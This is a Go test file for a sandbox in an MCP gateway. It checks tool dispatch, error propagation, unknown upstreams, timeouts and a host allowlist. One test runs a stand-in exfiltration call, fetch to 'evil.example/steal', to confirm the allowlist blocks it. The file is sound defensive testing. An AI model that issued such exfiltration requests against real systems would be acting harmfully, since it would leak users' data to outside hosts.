package exec

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/codemode-gw/codemode/internal/domain/allowlist"
	"github.com/codemode-gw/codemode/internal/domain/catalog"
	"github.com/codemode-gw/codemode/internal/port/outbound"
)

// fakeClient is a minimal outbound.MCPClient double driven by a
// canned CallTool response or error, for exercising the sandbox's
// callMCPTool dispatch without a real upstream.
type fakeClient struct {
	result outbound.ToolCallResult
	err    error
	calls  int
}

func (f *fakeClient) Initialize(context.Context) error { return nil }
func (f *fakeClient) ListTools(context.Context) ([]catalog.ToolDescriptor, error) {
	return nil, nil
}
func (f *fakeClient) CallTool(_ context.Context, _ string, _ json.RawMessage) (outbound.ToolCallResult, error) {
	f.calls++
	return f.result, f.err
}
func (f *fakeClient) Close(context.Context) error { return nil }

func buildTestCatalog(t *testing.T) *catalog.Catalog {
	t.Helper()
	b := catalog.NewBuilder()
	err := b.AddUpstream(
		catalog.UpstreamDescriptor{Name: "gdrive", URL: "https://api.example.com/mcp"},
		[]catalog.ToolDescriptor{
			{
				Name:        "getSheet",
				Description: "fetch a sheet",
				InputSchema: json.RawMessage(`{"type":"object","properties":{"sheetId":{"type":"string"}},"required":["sheetId"]}`),
			},
		},
		catalog.StatusConnected,
	)
	if err != nil {
		t.Fatalf("building test catalog: %v", err)
	}
	return b.Build()
}

func TestSandboxSuccessfulExecute(t *testing.T) {
	cat := buildTestCatalog(t)
	client := &fakeClient{result: outbound.ToolCallResult{Content: json.RawMessage(`{"title":"Q3"}`)}}
	resolver := ClientResolver(func(name string) (outbound.MCPClient, bool) {
		if name == "gdrive" {
			return client, true
		}
		return nil, false
	})
	allow, err := allowlist.New([]string{"https://api.example.com/mcp"}, nil)
	if err != nil {
		t.Fatalf("allowlist.New: %v", err)
	}

	sb := New(resolver, allow, nil, nil)
	code := `const r = await gdrive.getSheet({ sheetId: "abc" }); console.log(r.title);`
	result := sb.Run(context.Background(), cat, code, 2*time.Second)

	if result.RuntimeErr != nil {
		t.Fatalf("expected no runtime error, got %v", result.RuntimeErr)
	}
	if result.TimedOut {
		t.Fatal("expected no timeout")
	}
	if len(result.Stdout) != 1 || result.Stdout[0] != "Q3" {
		t.Fatalf("expected stdout [\"Q3\"], got %v", result.Stdout)
	}
	if client.calls != 1 {
		t.Fatalf("expected exactly one upstream call, got %d", client.calls)
	}
}

func TestSandboxUpstreamErrorPropagation(t *testing.T) {
	cat := buildTestCatalog(t)
	client := &fakeClient{err: &outbound.UpstreamError{Code: -32000, Message: "quota"}}
	resolver := ClientResolver(func(string) (outbound.MCPClient, bool) { return client, true })
	allow, _ := allowlist.New([]string{"https://api.example.com/mcp"}, nil)

	sb := New(resolver, allow, nil, nil)
	code := `try { await gdrive.getSheet({ sheetId: "x" }); } catch(e) { console.error(e.message); }`
	result := sb.Run(context.Background(), cat, code, 2*time.Second)

	if result.RuntimeErr != nil {
		t.Fatalf("expected the catch block to absorb the error, got RuntimeErr %v", result.RuntimeErr)
	}
	if len(result.Stderr) != 1 || result.Stderr[0] != "quota" {
		t.Fatalf("expected stderr [\"quota\"], got %v", result.Stderr)
	}
}

func TestSandboxHostNotAllowed(t *testing.T) {
	cat := buildTestCatalog(t)
	resolver := ClientResolver(func(string) (outbound.MCPClient, bool) { return nil, false })
	allow, _ := allowlist.New([]string{"https://api.example.com/mcp"}, nil)

	sb := New(resolver, allow, nil, nil)
	code := `try { await fetch("https://evil.example/steal"); } catch(e) { console.error(e.message); }`
	result := sb.Run(context.Background(), cat, code, 2*time.Second)

	if result.RuntimeErr != nil {
		t.Fatalf("expected the catch block to absorb the error, got RuntimeErr %v", result.RuntimeErr)
	}
	found := false
	for _, line := range result.Stderr {
		if line == (&HostNotAllowedError{Host: "https://evil.example/steal"}).Error() {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected stderr to contain a HostNotAllowed message, got %v", result.Stderr)
	}
}

func TestSandboxUnknownUpstream(t *testing.T) {
	cat := buildTestCatalog(t)
	resolver := ClientResolver(func(string) (outbound.MCPClient, bool) { return nil, false })
	allow, _ := allowlist.New([]string{"https://api.example.com/mcp"}, nil)

	sb := New(resolver, allow, nil, nil)
	code := `await callMCPTool({ name: "notreal", tool: "x", arguments: {} });`
	result := sb.Run(context.Background(), cat, code, 2*time.Second)

	if result.RuntimeErr == nil {
		t.Fatal("expected an unhandled error for an unknown upstream")
	}
}

func TestSandboxTimeout(t *testing.T) {
	cat := buildTestCatalog(t)
	resolver := ClientResolver(func(string) (outbound.MCPClient, bool) { return nil, false })
	allow, _ := allowlist.New([]string{"https://api.example.com/mcp"}, nil)

	sb := New(resolver, allow, nil, nil)
	code := `await new Promise(() => {});`

	start := time.Now()
	result := sb.Run(context.Background(), cat, code, 200*time.Millisecond)
	elapsed := time.Since(start)

	if !result.TimedOut {
		t.Fatal("expected TimedOut to be true")
	}
	if elapsed > 2*time.Second {
		t.Fatalf("expected Run to return promptly after the deadline, took %v", elapsed)
	}
	foundDiag := false
	for _, d := range result.Diagnostics {
		if d.Message == "execution timed out after 200ms" {
			foundDiag = true
		}
	}
	if !foundDiag {
		t.Fatalf("expected a timeout diagnostic, got %v", result.Diagnostics)
	}
}
